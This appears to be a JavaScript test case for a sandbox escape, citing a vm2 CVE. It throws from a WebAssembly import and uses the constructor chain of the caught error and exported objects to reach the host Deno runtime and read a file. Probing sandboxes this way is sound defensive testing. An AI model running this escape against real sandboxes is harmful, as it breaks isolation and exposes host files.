// Tries: a WebAssembly module whose import throws: the exception that comes back through it, and functions that it
// exports.
// Origin: vm2 CVE-2026-47210 (JSPI).

// (module (import "a" "b" (func)) (func (export "c") call 0))
const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 97, 1, 98, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 99, 0, 1, 10, 6, 1, 4, 0, 16, 0, 11]);
const { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes), { a: { b: () => null.x } });
const found = [];
const things = [exports.c, WebAssembly.Memory, WebAssembly];
try {
  exports.c();
} catch (error) {
  things.push(error);
}
if (WebAssembly.promising) things.push(WebAssembly.promising(exports.c)().catch((error) => error));
for (const thing of things) {
  try {
    const platform = (await thing).constructor.constructor("return Deno")();
    found.push(platform.args, platform.readTextFileSync(input.file));
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
